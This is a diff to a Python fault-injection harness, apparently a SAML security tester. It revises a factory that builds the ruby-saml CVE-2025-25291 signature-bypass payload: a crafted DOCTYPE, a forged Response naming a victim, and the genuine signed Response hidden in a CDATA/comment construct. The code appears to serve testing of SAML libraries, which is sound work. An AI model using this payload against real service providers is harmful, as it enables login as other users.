@@ -184,22 +184,19 @@ def _pollution(victim: str | None) -> Fault:
 
 
 @register_factory("doctype-roundtrip",
-                  "DOCTYPE round-trip differential (ruby-saml CVE-2025-25291 layout): DOCTYPE SYSTEM 'x\"><!--', a forged "
-                  "unsigned Response, and inside it a CDATA section holding the genuine signed Response",
-                  ("PDF-01", "CVE-2025-25291"), victim=None)
+                  "CVE-2025-25291 shape (ruby-saml, SAML Raider layout): DOCTYPE SYSTEM 'x\"><!--', the edited Response "
+                  "(victim, or whitespace only; signatures left in place) without its end tag, a CDATA section opening "
+                  "'-->' followed by the genuine signed Response without its end tag, '<!--]]>-->', then the end tag",
+                  ("PDF-01", "CVE-2025-25291", "GHSA-4vc4-m8qh-g8jm"), victim=None)
 def _doctype_rt(victim: str | None) -> Fault:
     def b(xml: bytes, ctx: FaultContext) -> bytes:
         original = xml.split(b"?>", 1)[1].strip() if xml.startswith(b"<?xml") else xml
         forged = etree.fromstring(original)
-        for s in _iter_tag(forged, q(DS, "Signature")):
-            s.getparent().remove(s)
-        a = forged.find(q(SAML, "Assertion"))
-        if a is not None:
-            _victimize(a, victim)
+        _forge(_assertion(forged), victim)
         forged_b = etree.tostring(forged)
-        close = forged_b.rindex(b"</")
-        inner = b"<![CDATA[-->" + original + b"<!--]]>-->"
-        return (b"<!DOCTYPE response SYSTEM 'x\"><!--'>\n" + forged_b[:close] + inner + forged_b[close:])
+        end = original[original.rindex(b"</"):]
+        return (b"<!DOCTYPE response SYSTEM 'x\"><!--'>\n" + forged_b[:forged_b.rindex(b"</")]
+                + b"<![CDATA[-->" + original[:original.rindex(b"</")] + b"<!--]]>-->" + end)
 
     return Fault("", "", bytes_=b)
 
